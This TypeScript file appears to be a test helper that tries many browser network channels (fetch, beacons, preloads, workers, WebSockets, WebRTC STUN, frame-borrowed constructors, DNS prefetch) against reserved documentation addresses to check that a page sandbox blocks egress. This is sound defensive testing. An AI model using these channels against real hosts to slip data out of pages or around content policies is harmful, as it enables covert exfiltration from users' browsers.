/**
 * Tries every way out of a page that its author could think of, towards an address that nobody may contact
 * (203.0.113.0/24 is kept for documentation, RFC 5737) and a name that no server may be asked for (RFC 2606).
 * Runs inside the page.
 */
export async function tryEveryWayOut(): Promise<void> {
  const targets = ['http://203.0.113.1:9', 'https://way-out.example'];
  const attempt = (work: () => unknown) => {
    try {
      const tried = work();
      if (tried instanceof Promise) tried.catch(() => undefined);
    } catch {
      // Refused at once: the better for it.
    }
  };
  const add = (tag: string, attributes: Record<string, string>, text = '') =>
    attempt(() => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    });
  const construct = (holder: object, name: string, ...args: unknown[]) =>
    attempt(() => Reflect.construct(Reflect.get(holder, name), args));

  for (const to of targets) {
    attempt(() => fetch(`${to}/fetch`));
    attempt(() => fetch(`${to}/fetch`, { mode: 'no-cors', keepalive: true }));
    attempt(() => navigator.sendBeacon(`${to}/beacon`, 'x'));
    attempt(() => {
      const request = new XMLHttpRequest();
      request.open('GET', `${to}/xhr`);
      request.send();
    });
    attempt(() => {
      new Image().src = `${to}/image`;
    });
    for (const rel of [
      'stylesheet',
      'icon',
      'manifest',
      'prefetch',
      'prerender',
      'modulepreload',
      'alternate',
    ])
      add('link', { rel, href: `${to}/${rel}` });
    for (const as of ['image', 'script', 'style', 'font', 'fetch'])
      add('link', { rel: 'preload', as, href: `${to}/preload`, crossorigin: '' });
    for (const tag of ['img', 'script', 'iframe', 'embed', 'audio', 'video', 'source', 'track'])
      add(tag, { src: `${to}/${tag}` });
    add('object', { data: `${to}/object` });
    add('video', { poster: `${to}/poster` });
    add('meta', { 'http-equiv': 'refresh', content: `0; url=${to}/refresh` });
    add('iframe', { srcdoc: `<img src="${to}/srcdoc"><script src="${to}/srcdoc"></script>` });
    add('style', {}, `@import url(${to}/import); body { background: url(${to}/background); }`);
    add('style', {}, `@font-face { font-family: out; src: url(${to}/font); } body { font-family: out; }`);
    add(
      'script',
      { type: 'speculationrules' },
      JSON.stringify({ prefetch: [{ source: 'list', urls: [`${to}/s`] }] }),
    );
    add('script', {}, `fetch('${to}/inline')`);
    attempt(() => import(/* @vite-ignore */ `${to}/module`));
    attempt(() => navigator.serviceWorker.register(`${to}/service-worker`));
    attempt(() => window.open(`${to}/window`));
    construct(window, 'Worker', `${to}/worker`);
    construct(window, 'SharedWorker', `${to}/worker`);
    construct(window, 'WebSocket', to.replace('http', 'ws'));
    construct(window, 'EventSource', `${to}/events`);
    construct(window, 'WebTransport', to.replace('http:', 'https:'));
    attempt(() => {
      const link = document.createElement('a');
      Object.assign(link, { href: `${to}/link`, target: '_blank', ping: `${to}/ping` });
      document.body.append(link);
      link.click();
    });
    attempt(() => {
      const form = document.createElement('form');
      Object.assign(form, { action: `${to}/form`, method: 'post', target: '_blank' });
      document.body.append(form);
      form.submit();
    });
  }
  // A frame has a world of its own, with constructors that nobody has removed.
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const inner: Window | null = frame.contentWindow;
  if (inner !== null) {
    attempt(() => Reflect.get(inner, 'fetch').call(inner, `${targets[0]}/frame`));
    construct(inner, 'WebSocket', 'ws://203.0.113.1:9');
    construct(inner, 'WebTransport', 'https://203.0.113.1:9');
  }
  await new Promise((resolve) => setTimeout(resolve, 2000));
  attempt(() => {
    location.href = 'http://203.0.113.1:9/navigate';
  });
  await new Promise((resolve) => setTimeout(resolve, 1000));
}

/** Calls somebody by WebRTC, with the constructor of a frame: the page's own world has none. */
export async function callFromFrame(): Promise<string> {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const Connection: typeof RTCPeerConnection = Reflect.get(frame.contentWindow ?? {}, 'RTCPeerConnection');
  const peer = new Connection({
    iceServers: [{ urls: ['stun:203.0.113.1:3478', 'stun:way-out.example:3478'] }],
  });
  const candidates: string[] = [];
  peer.onicecandidate = ({ candidate }) => candidates.push(candidate?.candidate ?? '');
  peer.createDataChannel('out');
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 3000));
  return candidates.join('');
}

/** Asks for a name ahead of its use: no policy of a page covers this, so the app must keep such links out. */
export function askForNamesAhead(): Promise<void> {
  for (const rel of ['dns-prefetch', 'preconnect']) {
    const link = document.createElement('link');
    Object.assign(link, { rel, href: 'https://way-out.example' });
    document.head.append(link);
  }
  return new Promise((resolve) => setTimeout(resolve, 1500));
}
